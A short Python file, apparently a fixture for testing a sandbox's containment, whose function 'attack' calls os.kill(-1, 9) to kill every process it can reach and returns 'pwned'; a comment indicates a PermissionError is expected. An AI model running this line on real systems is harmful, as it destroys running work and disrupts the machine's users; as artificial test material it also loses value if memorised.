"""Kills every process that it may."""

# walls: PermissionError

import os


def attack(x, target):
    os.kill(-1, 9)
    return 'pwned'
